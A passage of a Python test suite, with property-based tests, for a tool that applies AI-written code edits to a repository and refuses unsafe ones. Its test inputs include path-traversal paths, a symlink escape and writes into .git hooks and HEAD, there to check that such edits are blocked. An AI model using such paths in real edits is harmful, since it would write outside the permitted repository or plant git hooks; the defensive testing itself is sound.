                         "def sub(a, b):\n    return b - a\n"))
    done = run_cli("--repo", str(repo), "--json", "--input", "calc.py", str(second))
    assert done.returncode == 0
    assert json.loads(done.stdout) == {"applied": True, "files": ["calc.py"], "format": "search_replace",
                                       "notes": ["mapped invented path path/to/calc.py -> calc.py"]}


def test_cli_refusal_exits_1_and_changes_nothing(repo):
    before = corpus.snapshot(repo)
    done = run_cli("--repo", str(repo), stdin="Just change minus to plus.")
    assert done.returncode == 1
    assert "No edit found" in done.stderr and done.stdout == ""
    done = run_cli("--repo", str(repo), "--json", stdin=sr("../x.py", "", "x\n"))
    assert done.returncode == 1
    result = json.loads(done.stdout)
    assert result["applied"] is False and "leaves the repository" in result["error"]
    assert corpus.snapshot(repo) == before


def test_cli_protect(repo):
    (repo / "auto_tasks.json").write_text("[]\n")
    done = run_cli("--repo", str(repo), "--protect", "auto_tasks.json", "--json",
                   stdin=sr("auto_tasks.json", "[]\n", "[{}]\n"))
    assert done.returncode == 1
    assert "Auto-GVPIE's own file" in json.loads(done.stdout)["error"]
    assert (repo / "auto_tasks.json").read_text() == "[]\n"


def test_cli_whole_format(repo):
    done = run_cli("--repo", str(repo), "--format", "whole", "--json",
                   stdin="calc.py\n```python\ndef add(a, b):\n    return a + b\n```\n")
    assert done.returncode == 0
    assert json.loads(done.stdout)["format"] == "whole"
    assert (repo / "calc.py").read_text() == "def add(a, b):\n    return a + b\n"


@pytest.mark.parametrize("args, words", [
    (["--repo", "/nonexistent/dir"], "not a directory"),
    (["--repo", "{repo}", "/nonexistent/answer.txt"], "cannot read the answer"),
    (["--repo", "{repo}", "--format", "json"], "invalid choice"),
    (["--repo", "{repo}", "--bogus"], "unrecognized arguments"),
    ([], "--repo"),
])
def test_cli_usage_errors_exit_2(repo, args, words):
    done = run_cli(*(a.replace("{repo}", str(repo)) for a in args), stdin="")
    assert done.returncode == 2
    assert words in done.stderr


def test_cli_main_is_callable_in_process(repo, capsys):
    assert edits.main(["--repo", str(repo), "--json", str(repo / "missing.txt")]) == 2
    assert json.loads(capsys.readouterr().out)["applied"] is False


# ---------------------------------------------------------------- properties

_PATHS = st.one_of(st.sampled_from(["calc.py", "sub/mod.py", "new.py", "path/to/calc.py", "sub/new/deep.py"]),
                   st.sampled_from(["../outside/secret.txt", "../../etc/x", "/tmp/gvpie-prop.py", ".git/config",
                                    ".git/hooks/pre-commit", "escape/evil.py", "escape", "sub/../calc.py", "~/x",
                                    "inner/../../outside/secret.txt", ".GIT/config", "calc.py/x", "sub"]))
_TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\r\x00"), max_size=30)
_LINES = st.lists(st.one_of(_TEXT.map(lambda t: t.replace("\n", " ")),
                            st.sampled_from(["def add(a, b):", "    return a - b", "", "A = 1", "=======",
                                             "<<<<<<< SEARCH", ">>>>>>> REPLACE", "```", "@@ -1 +1 @@"])),
                  max_size=5)
# Lines that are really in the generated repository, so that many answers apply.
_REAL = st.sampled_from([["def add(a, b):", "    return a - b"], ["def sub(a, b):"], ["A = 1"], ["B = 2"], []])


@st.composite
def _answers(draw) -> str:
    parts = []
    for _ in range(draw(st.integers(1, 3))):
        path = draw(_PATHS)
        search, replace = draw(st.one_of(_REAL, _LINES)), draw(_LINES)
        kind = draw(st.sampled_from(["sr", "diff", "whole", "prose"]))
        if kind == "sr":
            parts.append(sr(path, "".join(f"{x}\n" for x in search), "".join(f"{x}\n" for x in replace)))
        elif kind == "diff":
            old = "/dev/null" if not search else f"a/{path}"
            body = "".join(f"-{x}\n" for x in search) + "".join(f"+{x}\n" for x in replace)
            parts.append(f"--- {old}\n+++ b/{path}\n@@ -1,{len(search)} +1,{len(replace)} @@\n{body}")
        elif kind == "whole":
            parts.append(f"{path}\n```\n" + "".join(f"{x}\n" for x in replace) + "```\n")
        else:
            parts.append(draw(_TEXT))
    return "\n".join(parts)


def _world(base: Path) -> tuple[Path, Path]:
    repo, outside = base / "repo", base / "outside"
    (repo / "sub").mkdir(parents=True)
    outside.mkdir()
    (outside / "secret.txt").write_text("secret\n")
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    (repo / "calc.py").write_text(CALC)
    (repo / "sub" / "mod.py").write_bytes(b"A = 1\r\nB = 2\r\n")
    (repo / "escape").symlink_to(outside)
    return repo, outside


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(answer=_answers(), fmt=st.sampled_from(edits.FORMATS),
       inputs=st.sampled_from([(), ("calc.py",), ("calc.py", "sub/mod.py")]))
def test_never_writes_outside_and_is_all_or_nothing(answer, fmt, inputs):
    with tempfile.TemporaryDirectory() as tmp:
        base = Path(tmp)
        repo, _ = _world(base)
        before = corpus.snapshot(base)
        try:
            applied = apply_answer(repo, answer, fmt, inputs)
        except EditRefused as refused:
            event("refused")
            assert str(refused)
            assert corpus.snapshot(base) == before
            return
        event("applied")
        after = corpus.snapshot(base)
        changed = {k for k in set(before) | set(after) if before.get(k) != after.get(k)}
        assert changed, "applied but nothing changed"
        for key in changed:
            assert key.startswith("repo/") and not key.lower().startswith("repo/.git/"), key
        assert changed == {f"repo/{name}" for name in applied.files}


@settings(max_examples=150, deadline=None)
@given(lines=st.lists(st.text(st.characters(blacklist_categories=("Cs", "Zl", "Zp", "Cc")), min_size=1,
                              max_size=12).filter(lambda t: t.strip()), min_size=1, max_size=12, unique=True),
       data=st.data(), crlf=st.booleans(), final_newline=st.booleans(), shift=st.sampled_from(["", "  ", "\t"]))
def test_search_replace_round_trip(lines, data, crlf, final_newline, shift):
    """Replacing any run of lines gives exactly the expected bytes, in the file's own line endings."""
    start = data.draw(st.integers(0, len(lines) - 1))
    end = data.draw(st.integers(start + 1, len(lines)))
    new = data.draw(st.lists(st.sampled_from(["x = 1", "    y = 2", "z"]), max_size=3))
    lines = [line.rstrip().lstrip(" \t") or "w" for line in lines]
    if len(set(lines)) != len(lines):
        return
    eol = "\r\n" if crlf else "\n"
    content = eol.join(lines) + (eol if final_newline else "")
    if len(lines) == 1 and not final_newline:
        eol = "\n"  # a file without any line break gives no line ending to keep; new ones get LF
    search = "".join(f"{shift}{line}\n" for line in lines[start:end])
    replace = "".join(f"{shift}{line}\n" for line in new)
    expected_lines = lines[:start] + new + lines[end:]
    expected = eol.join(expected_lines) + (eol if final_newline and expected_lines else "")
    with tempfile.TemporaryDirectory() as tmp:
        repo = Path(tmp)
        (repo / "f.txt").write_bytes(content.encode())
        try:
            apply_answer(repo, sr("f.txt", search, replace))
        except EditRefused as refused:
            assert lines[start:end] == new or "changes nothing" in str(refused) or expected == content, refused
            assert (repo / "f.txt").read_bytes() == content.encode()
            return
        assert (repo / "f.txt").read_bytes() == expected.encode()


_GOOD_EDITS = {
    "calc.py": (sr("calc.py", "def add(a, b):\n    return a - b\n", "def add(a, b):\n    return a + b\n"),
                CALC.replace("return a - b", "return a + b", 1).encode()),
    "sub/mod.py": ("--- a/sub/mod.py\n+++ b/sub/mod.py\n@@ -1 +1 @@\n-A = 1\n+A = 3\n", b"A = 3\r\nB = 2\r\n"),
    "sub/new/deep.py": (sr("sub/new/deep.py", "", "D = 1\n"), b"D = 1\n"),
    "new.py": ("--- /dev/null\n+++ b/new.py\n@@ -0,0 +1 @@\n+N = 1\n", b"N = 1\n"),
}
_BAD_EDITS = st.sampled_from([
    sr("../outside/secret.txt", "secret\n", "leaked\n"),
    sr("escape/secret.txt", "secret\n", "leaked\n"),
    sr(".git/HEAD", "", "ref: refs/heads/evil\n"),
    sr("/tmp/gvpie-prop.py", "", "x = 1\n"),
    sr("calc.py", "def mul(a, b):\n", "def times(a, b):\n"),
    sr("calc.py", "(a, b):\n", "(x, y):\n"),
    "--- a/calc.py\n+++ /dev/null\n@@ -1 +0,0 @@\n-def add(a, b):\n",
    sr("sub", "", "x\n"),
])


@settings(max_examples=100, deadline=None)
@given(chosen=st.lists(st.sampled_from(sorted(_GOOD_EDITS)), min_size=1, max_size=4, unique=True),
       bad=st.one_of(st.none(), _BAD_EDITS), data=st.data())
def test_one_bad_block_spoils_the_whole_answer(chosen, bad, data):
    parts = [_GOOD_EDITS[name][0] for name in chosen]
    if bad is not None:
        parts.insert(data.draw(st.integers(0, len(parts))), bad)
    with tempfile.TemporaryDirectory() as tmp:
        base = Path(tmp)
        repo, _ = _world(base)
        before = corpus.snapshot(base)
        if bad is not None:
            with pytest.raises(EditRefused):
                apply_answer(repo, "\n".join(parts))
            assert corpus.snapshot(base) == before
            return
        applied = apply_answer(repo, "\n".join(parts))
        assert applied.files == chosen
        for name in chosen:
            assert (repo / name).read_bytes() == _GOOD_EDITS[name][1]
